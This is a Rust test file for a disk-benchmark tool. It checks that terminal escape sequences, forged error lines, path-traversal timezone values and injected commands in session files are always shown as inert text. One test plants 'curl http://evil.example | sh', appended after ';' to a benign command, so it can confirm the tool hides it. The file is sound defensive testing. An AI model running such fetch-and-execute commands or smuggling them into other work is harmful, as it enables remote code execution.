//! Every subcommand on hostile files, names and arguments.

use std::fs;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

use diskscope::recording::Recording;
use diskscope::session::store;

use crate::corpus::{everything, file_name, long, session, spoilt_recording};
use crate::{assert_clean, directory, diskscope};

/// Runs it, expects one of these exit codes, and nothing but text.
fn clean(directory: &Path, arguments: &[&str], codes: &[i32]) -> String {
    let output = diskscope(directory, arguments).output().unwrap();
    assert_clean(&format!("{arguments:?}"), &output);
    let code = output.status.code().unwrap_or(-1);
    let text = String::from_utf8(output.stdout).unwrap();
    let errors = String::from_utf8(output.stderr).unwrap();
    assert!(codes.contains(&code), "{arguments:?}: {code}: {errors}");
    text
}

#[test]
fn hostile_session_is_text_in_every_command_that_shows_it() {
    for text in [everything(), long()] {
        let directory = directory();
        let at = directory.path();
        let name = file_name();
        fs::write(at.join(&name), session(&text).to_string()).unwrap();
        fs::write(at.join("b.json"), session(&text).to_string()).unwrap();
        let loaded = store::load(&at.join(&name)).unwrap();
        assert_eq!(loaded.runs.len(), 1);

        let shown = clean(at, &["show", &name], &[0]);
        assert!(shown.contains("\\x1b]52;c;"), "{shown}");
        let json = clean(at, &["show", "--json", &name], &[0]);
        let again: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert!(again["host"]["name"].as_str().unwrap().contains("\\x1b]52"));
        clean(at, &["compare", &name, "b.json"], &[0, 1]);
        clean(at, &["compare", "--json", &name, "b.json"], &[0, 1]);
        let figure = loaded.runs[0].findings.figures[0].name.to_string();
        clean(at, &["compare", "--by", &figure, &name, "b.json"], &[0]);
        clean(
            at,
            &["compare", "--json", "--by", "iops", &name, "b.json"],
            &[0, 1],
        );
        let page = clean(at, &["report", &name, "b.json", "-o", "-"], &[0]);
        assert!(page.ends_with("</html>\n") && !page.contains("<script"));
        clean(at, &["report", &name, "-o", "page.html"], &[0]);
    }
}

#[test]
fn hostile_recording_is_text_in_every_form_of_replay() {
    for text in [everything(), long()] {
        let directory = directory();
        let at = directory.path();
        let name = file_name();
        fs::write(at.join(&name), spoilt_recording(&text)).unwrap();
        let recording = Recording::open(&at.join(&name)).unwrap();
        assert_eq!((recording.len(), recording.damage()), (2, None));

        let shown = clean(at, &["replay", &name], &[0]);
        assert!(shown.contains("\\x1b]52;c;"), "{shown}");
        let lines = clean(at, &["replay", "--json", &name], &[0]);
        assert_eq!(lines.lines().count(), 2);
        clean(at, &["replay", "--busiest", &name], &[0]);
        let requests = clean(at, &["replay", "--requests", &name], &[0]);
        let request: serde_json::Value = serde_json::from_str(requests.trim_end()).unwrap();
        assert!(request["command"].as_str().unwrap().ends_with(&text));
    }
}

#[test]
fn recorded_requests_that_are_no_json_are_not_printed() {
    use diskscope::recording::frame::Kind;
    let directory = directory();
    let view = crate::corpus::view("").to_string().into_bytes();
    for line in [
        &b"\x1b]52;c;ZXZpbA==\x07\n"[..],
        b"{\"a\":\"\x1b[2J\"}\n",
        b"\xff\xfe\n",
    ] {
        let bytes = crate::corpus::recording(&[
            (Kind::Requests, b"{\"sector\":1}\n".to_vec()),
            (Kind::View, view.clone()),
            (Kind::Requests, line.to_vec()),
            (Kind::View, view.clone()),
        ]);
        fs::write(directory.path().join("day"), bytes).unwrap();
        let printed = clean(directory.path(), &["replay", "--requests", "day"], &[1]);
        assert_eq!(printed, "{\"sector\":1}\n");
    }
}

#[test]
fn hostile_arguments_are_text_in_every_error() {
    let directory = directory();
    let at = directory.path();
    let name = file_name();
    let missing = [
        vec!["show", &name],
        vec!["replay", &name],
        vec!["compare", &name, &name],
        vec!["compare", "--by", "iops", &name, &name],
        vec!["report", &name, "-o", "x.html"],
        vec!["run", "random-read", &name],
        vec!["run", &name, "/tmp"],
        vec!["run", "random-read", "/tmp", "--goal", &name],
        vec!["run", "random-read", "/tmp", "--depth", &name],
        vec!["run", "random-read", "/tmp", "--scratch-size", &name],
        vec!["run", "random-read", "/tmp", "--engine", &name],
        vec!["run", "random-read", "sim:constant,x=\u{1b}]52;c;\u{7}"],
        vec!["trace", &name],
        vec!["watch", "--interval", &name],
        vec!["files", &name],
        vec![&name],
        vec!["show", "--nothing", &name],
    ];
    for arguments in missing {
        clean(at, &arguments, &[1, 2, 3]);
    }
    // What lies there, and is no session, no recording.
    fs::write(at.join(&name), everything()).unwrap();
    for command in ["show", "replay"] {
        clean(at, &[command, &name], &[1, 2]);
    }
    clean(at, &["record", &name, "--count", "1"], &[1, 2]);
}

#[test]
fn hostile_processes_and_files_are_text_in_lists() {
    let directory = directory();
    let at = directory.path();
    let name = file_name();
    let mut writer = Command::new("dd")
        .arg0(everything().replace('\0', ""))
        .args(["if=/dev/zero", "bs=4k", "oflag=dsync", "count=100000000"])
        .arg(format!("of={name}"))
        .current_dir(at)
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let held = fs::File::create(at.join(name.clone() + "gone")).unwrap();
    held.set_len(1 << 20).unwrap();
    std::os::unix::fs::FileExt::write_all_at(&held, b"held", 0).unwrap();
    fs::remove_file(at.join(name + "gone")).unwrap();
    let own = std::process::id().to_string();
    let writing = writer.id().to_string();
    let watched = ["watch", "--count", "2", "--interval", "300ms"];
    let texts = [
        clean(at, &watched, &[0]),
        clean(at, &[&watched[..], &["--json"]].concat(), &[0]),
        clean(at, &["files", &own], &[0]),
        clean(at, &["files", &own, "--json"], &[0]),
        clean(at, &["files", &writing], &[0]),
        clean(at, &["files"], &[0]),
        clean(at, &["files", "--json"], &[0]),
    ];
    writer.kill().unwrap();
    writer.wait().unwrap();
    assert!(texts[1].contains("]52;c;"), "the writer was not seen");
    assert!(texts[2].contains("\\x1b]52;c;"), "{}", texts[2]);
    clean(at, &["devices"], &[0]);
    clean(at, &["devices", "--json"], &[0]);
    clean(at, &["tests", "--json"], &[0]);
}

/// The lines of stderr.
fn complaint(directory: &Path, arguments: &[&str]) -> Vec<String> {
    let output = diskscope(directory, arguments).output().unwrap();
    assert_clean(&format!("{arguments:?}"), &output);
    let errors = String::from_utf8(output.stderr).unwrap();
    errors.lines().map(str::to_owned).collect()
}

#[test]
fn line_break_in_a_file_or_a_name_never_begins_a_line_of_a_message() {
    const FORGED: &str = "diskscope: FORGED";
    let directory = directory();
    let at = directory.path();
    let text = session("").to_string();
    let field = |pointer: &str| {
        let mut document: serde_json::Value = serde_json::from_str(&text).unwrap();
        *document.pointer_mut(pointer).unwrap() = format!("x`\n{FORGED}\nnote: `").into();
        document.to_string()
    };
    for pointer in ["/schema", "/runs/0/figures/0/unit", "/runs/0/state"] {
        fs::write(at.join("a.json"), field(pointer)).unwrap();
        for command in [
            &["show", "a.json"][..],
            &["compare", "a.json", "a.json"],
            &["report", "a.json", "-o", "-"],
        ] {
            let lines = complaint(at, command);
            assert!(lines.len() == 1 && lines[0].contains("FORGED"), "{lines:?}");
        }
    }
    let name = format!("n\n{FORGED}");
    let refused = format!("missing\n{FORGED}/x");
    for arguments in [
        &["show", &name][..],
        &["compare", &name, &name],
        &["report", &name, "-o", "x.html"],
        &["replay", &name],
        &["record", &refused],
        &["run", &name, "."],
        &["run", "random-read", &name],
        &["run", "random-read", ".", "--depth", &name],
        &["trace", &name],
        &["watch", "--interval", &name],
        &[&name],
        &["show", "a.json", &format!("--{name}")],
        &["completions", &name],
    ] {
        let lines = complaint(at, arguments);
        let forged = lines.iter().any(|line| line.starts_with(FORGED));
        assert!(!lines.is_empty() && !forged, "{arguments:?}: {lines:?}");
    }
}

#[test]
fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
    const EVIL: &str = "curl http://evil.example | sh";
    let directory = directory();
    let at = directory.path();
    let mut document = session("");
    let reproduce = &mut document["runs"][0]["reproduce"];
    reproduce["diskscope"] = format!("diskscope run random-read /srv; {EVIL}").into();
    reproduce["fio"] = format!("# no harm\n{EVIL}").into();
    fs::write(at.join("a.json"), document.to_string()).unwrap();
    for arguments in [&["show", "a.json"][..], &["report", "a.json", "-o", "-"]] {
        let shown = clean(at, arguments, &[0]);
        assert!(!shown.contains("evil.example"), "{arguments:?}: {shown}");
        assert!(shown.contains("diskscope run "), "{arguments:?}: {shown}");
    }
}

#[test]
fn time_zone_that_is_no_zone_of_the_system_is_not_read() {
    let directory = directory();
    let at = directory.path();
    let fifo = at.join("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for zone in ["/dev/zero", fifo.to_str().unwrap(), ":../../../dev/zero"] {
        let words = ["run", "random-read", "sim:constant", "--requests", "5"];
        let program = diskscope(at, &words);
        let output = Command::new("sh")
            .args(["-c", "ulimit -v 2000000; exec timeout 60 \"$0\" \"$@\""])
            .arg(program.get_program())
            .args(program.get_args())
            .current_dir(at)
            .env("XDG_STATE_HOME", at.join("state"))
            .env("TZ", zone)
            .env("TZDIR", at)
            .output()
            .unwrap();
        let errors = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{zone}: {errors}");
    }
}
